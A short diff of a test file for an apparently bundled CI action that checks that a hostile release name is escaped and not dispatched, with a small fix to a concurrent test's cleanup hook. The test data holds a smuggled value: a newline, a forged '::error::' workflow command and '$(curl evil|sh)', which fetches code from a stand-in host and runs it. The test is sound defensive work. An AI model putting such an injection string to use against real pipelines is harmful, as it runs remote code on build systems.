@@ -149,7 +149,8 @@ describe.concurrent('a sentry-url that cannot be reached (bundled action)', () =
 });
 
 describe.concurrent('the previous release named by the tracker (bundled action)', () => {
-  it('a name with a newline, "::" and shell characters is not used nor dispatched: warned about, shown escaped', async () => {
+  // The test's own onTestFinished: the imported one, in concurrent tests, may hook on another test and close the stub mid-run.
+  it('a name with a newline, "::" and shell characters is not used nor dispatched: warned about, shown escaped', async ({ onTestFinished }) => {
     const hostile = 'shop-web@1.4.0\n::error::forged $(curl evil|sh)';
     const scenario = { ...getScenario('crash-spike'), previousRelease: { version: hostile, deployedMinutesBeforeStart: 180 } };
     const tracker = await startLocalTracker({ scenario, token: SENTRY_TOKEN, minuteMs: 1000 });
